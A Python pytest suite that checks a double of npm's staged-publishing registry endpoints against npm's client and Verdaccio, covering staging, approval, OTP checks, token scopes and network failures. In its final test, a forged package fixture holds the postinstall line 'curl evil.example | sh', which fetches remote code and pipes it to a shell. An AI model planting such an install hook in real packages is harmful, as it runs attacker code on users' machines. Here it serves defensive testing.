"""The double of npm's staging endpoints, held to the truth by npm's own client."""

from __future__ import annotations

import hashlib
import json
import re
from typing import TYPE_CHECKING

import pytest

import javascript
from harness.http_server import HangUp
from harness.npm.documents import Answer, Request, error, pack
from staging.client import Client

if TYPE_CHECKING:
    from pathlib import Path

    from harness.npm.registry import Registry
    from integration.verdaccio import Verdaccio

CODE = "123456"
MANIFEST = {"name": "@acme/core", "version": "1.1.0", "main": "index.js"}
OLD = pack({"name": "@acme/core", "version": "1.0.0"})
UUID = r"[0-9a-f]{8}(?:-[0-9a-f]{4}){3}-[0-9a-f]{12}"


@pytest.fixture
def sources(tmp_path: Path) -> Path:
    """@acme/core 1.1.0."""
    files = {"package.json": MANIFEST, "index.js": "module.exports = 1\n"}
    return javascript.write(tmp_path / "core", files)


@pytest.fixture(params=["double", "verdaccio"])
def npm(request: pytest.FixtureRequest, tmp_path: Path) -> Client:
    """npm's client of an empty registry: what is no peculiarity of npmjs.com holds for both."""
    if request.param == "double":
        return client(request.getfixturevalue("registry"), tmp_path / "home")
    server: Verdaccio = request.getfixturevalue("staging_verdaccio")
    return client(server, tmp_path / "home", server.token)


def client(
    registry: Registry | Verdaccio, home: Path, token: str = "npm_session", **more: str
) -> Client:
    home.mkdir(exist_ok=True)
    return Client(home=home, url=registry.url, token=token, environment=more)


def staged_by(npm: Client, sources: Path, *arguments: str) -> str:
    """The id that it prints."""
    out = npm.out("stage", "publish", *arguments, cwd=sources)
    found = re.search(rf"\+ @acme/core@1\.1\.0 \(staged with id ({UUID})\)", out)
    assert found, out
    return found[1]


def publish_old(npm: Client, tmp_path: Path) -> None:
    (tmp_path / "old.tgz").write_bytes(OLD)
    npm.out("publish", str(tmp_path / "old.tgz"), "--otp", CODE)


def test_what_is_staged_is_seen_downloaded_and_approved(
    npm: Client, sources: Path, tmp_path: Path
) -> None:
    publish_old(npm, tmp_path)
    stage_id = staged_by(npm, sources, "--tag", "next")

    (row,) = json.loads(npm.out("stage", "list", "--json"))
    assert json.loads(npm.out("stage", "view", stage_id, "--json")) == row
    assert {**row, "status": "staged", "createdAt": "", "shasum": ""} == {
        "id": stage_id,
        "packageName": "@acme/core",
        "version": "1.1.0",
        "tag": "next",
        "createdAt": "",
        "actor": "releaser",
        "actorType": "user",
        "access": "public",
        "shasum": "",
        "status": "staged",
    }
    assert "staged by: releaser (user)" in npm.out("stage", "view", stage_id)
    nothing = 'No staged versions of package name "@acme/none".\n'
    assert npm.out("stage", "list", "@acme/none") == nothing

    npm.out("stage", "download", stage_id)
    downloaded = (npm.home / f"acme-core-1.1.0-{stage_id}.tgz").read_bytes()
    assert hashlib.sha1(downloaded).hexdigest() == row["shasum"]
    assert npm.run("view", "@acme/core@1.1.0", "version").stdout == ""

    npm.out("stage", "approve", stage_id, "--otp", CODE)
    tags = json.loads(npm.out("view", "@acme/core", "dist-tags", "--json"))
    assert tags == {"latest": "1.0.0", "next": "1.1.0"}
    npm.out("pack", "@acme/core@1.1.0")
    assert (npm.home / "acme-core-1.1.0.tgz").read_bytes() == downloaded
    for verb in (["view"], ["download"], ["approve", "--otp", CODE], ["reject", "--otp", CODE]):
        gone = npm.run("stage", *verb, stage_id)
        assert gone.returncode != 0
        assert "E404" in gone.stderr
    assert "409 Conflict" in npm.run("stage", "publish", "--force", cwd=sources).stderr


def test_a_rejected_version_can_be_staged_again(npm: Client, sources: Path, tmp_path: Path) -> None:
    publish_old(npm, tmp_path)
    stage_id = staged_by(npm, sources)
    again = npm.run("stage", "publish", cwd=sources)
    assert again.returncode != 0
    assert "409 Conflict" in again.stderr
    npm.out("stage", "reject", stage_id, "--otp", CODE)
    assert json.loads(npm.out("stage", "list", "--json")) == []
    assert staged_by(npm, sources) != stage_id


def test_what_is_staged_cannot_be_published_past_it(
    registry: Registry, sources: Path, tmp_path: Path
) -> None:
    """Verdaccio lets it."""
    registry.npm.publish(OLD)
    npm = client(registry, tmp_path / "home")
    stage_id = staged_by(npm, sources)
    refused = npm.run("publish", "--otp", CODE, cwd=sources)
    assert 'Cannot publish over previously staged version "1.1.0".' in refused.stderr
    registry.npm.drop(registry.npm.staged[stage_id])
    assert registry.npm.stagings == ["@acme/core@1.1.0"]
    for command in (["publish", "--otp", CODE], ["stage", "publish"]):
        assert "409 Conflict" in npm.run(*command, cwd=sources).stderr
    assert not registry.npm.publishings


def test_nothing_is_decided_without_a_good_code(
    registry: Registry, sources: Path, tmp_path: Path
) -> None:
    registry.npm.publish(OLD)
    npm = client(registry, tmp_path / "home")
    stage_id = staged_by(npm, sources)
    for arguments in (["approve", stage_id], ["reject", stage_id, "--otp", "654321"]):
        refused = npm.run("stage", *arguments)
        assert refused.returncode != 0
        assert "EOTP" in refused.stderr
    registry.npm.accounts.second_factor = False
    assert "Please enable 2fa" in npm.run("stage", "approve", stage_id).stderr
    registry.npm.accounts.second_factor = True
    registry.npm.accounts.codes.remove(CODE)
    assert "EOTP" in npm.run("stage", "approve", stage_id, "--otp", CODE).stderr
    assert list(registry.npm.staged) == [stage_id]
    assert not registry.npm.approvals


def test_a_person_may_sign_in_on_the_web(registry: Registry, tmp_path: Path) -> None:
    registry.npm.publish(OLD)
    release = registry.npm.stage(pack(MANIFEST))
    registry.npm.accounts.agrees_after = 1
    npm = client(registry, tmp_path / "home")
    code, seen = npm.at_a_terminal("stage", "approve", release.id)
    assert code == 0, seen
    (login,) = registry.npm.accounts.logins
    assert f"{registry.url}auth/cli/{login}" in seen
    assert f"Staged package {release.id} approved and published successfully." in seen
    polls = registry.seen("GET", "/-/v1/done.*")
    assert [exchange.status for exchange in polls] == [202, 200]
    approvals = registry.seen("POST", "/-/stage/.*/approve")
    assert [exchange.status for exchange in approvals] == [401, 201]


def test_a_listing_of_more_than_a_page_is_whole(registry: Registry, tmp_path: Path) -> None:
    registry.npm.publish(OLD)
    for number in range(101):
        registry.npm.stage(pack({**MANIFEST, "version": f"1.1.{number}"}))
    npm = client(registry, tmp_path / "home")
    rows = json.loads(npm.out("stage", "list", "@acme/core", "--json"))
    assert [row["version"] for row in rows] == [f"1.1.{number}" for number in range(100, -1, -1)]
    assert len(registry.seen("GET", r"/-/stage\?.*")) == 2


def test_what_is_under_review_cannot_be_approved_yet(registry: Registry, tmp_path: Path) -> None:
    registry.npm.publish(OLD)
    release = registry.npm.stage(pack(MANIFEST))
    release.status = "validating"
    npm = client(registry, tmp_path / "home")
    early = npm.run("stage", "approve", release.id, "--otp", CODE)
    assert "409 Conflict" in early.stderr
    assert "@acme/core@1.1.0 can't be approved yet" in early.stderr
    registry.npm.review()
    registry.npm.scanning = True
    npm.out("stage", "approve", release.id, "--otp", CODE)
    assert npm.run("view", "@acme/core@1.1.0", "version").stdout == ""
    registry.npm.show()
    assert npm.out("view", "@acme/core@1.1.0", "version") == "1.1.0\n"


def test_a_trusted_publisher_stages_and_does_nothing_else(
    registry: Registry, sources: Path, tmp_path: Path
) -> None:
    registry.npm.publish(OLD)
    npm = client(registry, tmp_path / "home", token="", **registry.runner)
    refused = npm.run("publish", cwd=sources)
    assert "403 Forbidden" in refused.stderr
    assert "OIDC permission denied for this action" in refused.stderr
    stage_id = staged_by(npm, sources)
    assert registry.npm.staged[stage_id].actor_type == "trusted automation"
    minted = client(registry, tmp_path / "home", token=next(reversed(registry.npm.accounts.tokens)))
    for arguments in (["list"], ["view", stage_id], ["approve", stage_id, "--otp", CODE]):
        assert "E403" in minted.run("stage", *arguments).stderr
    registry.npm.staged.clear()
    registry.npm.accounts.allowed |= {"publish"}
    npm.out("publish", cwd=sources)
    assert registry.npm.publishings == ["@acme/core@1.1.0"]


@pytest.mark.parametrize(
    ("token", "refusal", "lists", "approves"),
    [
        ("npm_stage-only", "E_STAGE_REQUIRED", True, False),
        ("npm_bypass", "", True, False),
        ("npm_session", "EOTP", True, True),
        ("npm_nobody's", "E401", False, False),
    ],
)
def test_tokens_differ_in_what_they_may(
    registry: Registry,
    sources: Path,
    tmp_path: Path,
    token: str,
    refusal: str,
    lists: bool,
    approves: bool,
) -> None:
    registry.npm.publish(OLD)
    release = registry.npm.stage(pack({**MANIFEST, "version": "1.2.0"}))
    npm = client(registry, tmp_path / "home", token=token)
    published = npm.run("publish", cwd=sources)
    assert refusal in published.stderr
    assert (published.returncode == 0) == (not refusal)
    assert (npm.run("stage", "list").returncode == 0) == lists
    approved = npm.run("stage", "approve", release.id, "--otp", CODE)
    assert (approved.returncode == 0) == approves


def test_a_package_that_does_not_exist_is_refused_or_has_a_placeholder_or_neither(
    registry: Registry, sources: Path, tmp_path: Path
) -> None:
    """npm's pages say each of these: https://docs.npmjs.com/staged-publishing,
    https://github.com/npm/documentation/blob/main/content/packages-and-modules/securing-your-code/staged-publishing.mdx
    and https://github.com/npm/api-documentation/blob/main/api/registry.npmjs.com/stage.yaml
    """
    npm = client(registry, tmp_path / "home")
    refused = npm.run("stage", "publish", cwd=sources)
    assert "404 Not Found" in refused.stderr
    assert 'Package "@acme/core" not found' in refused.stderr
    registry.npm.unknown = "create"
    npm.out("stage", "reject", staged_by(npm, sources), "--otp", CODE)
    assert npm.run("view", "@acme/core").returncode != 0
    registry.npm.unknown = "placeholder"
    staged_by(npm, sources)
    assert npm.out("view", "@acme/core", "version") == "0.0.0-stage\n"


def test_an_answer_may_get_lost_or_be_forged(
    registry: Registry, sources: Path, tmp_path: Path
) -> None:
    registry.npm.publish(OLD)
    npm = client(registry, tmp_path / "home")
    forged = pack({**MANIFEST, "scripts": {"postinstall": "curl evil.example | sh"}})

    def refuse(request: Request) -> Answer | None:
        return error(503, "not today") if request.method == "POST" else None

    def lose(request: Request, answer: Answer) -> Answer:
        if request.method == "POST":
            raise HangUp
        return answer

    def forge(request: Request, answer: Answer) -> Answer:
        return Answer(200, forged) if request.target.endswith("/tarball") else answer

    registry.before = refuse
    assert "503" in npm.run("stage", "publish", cwd=sources).stderr
    assert not registry.npm.staged
    registry.before = lambda request: None
    registry.after = lose
    assert npm.run("stage", "publish", cwd=sources).returncode != 0
    (stage_id,) = registry.npm.staged
    statuses = [exchange.status for exchange in registry.seen("POST")]
    assert statuses == [503, None]
    registry.after = forge
    npm.out("stage", "download", stage_id)
    assert (npm.home / f"acme-core-1.1.0-{stage_id}.tgz").read_bytes() == forged
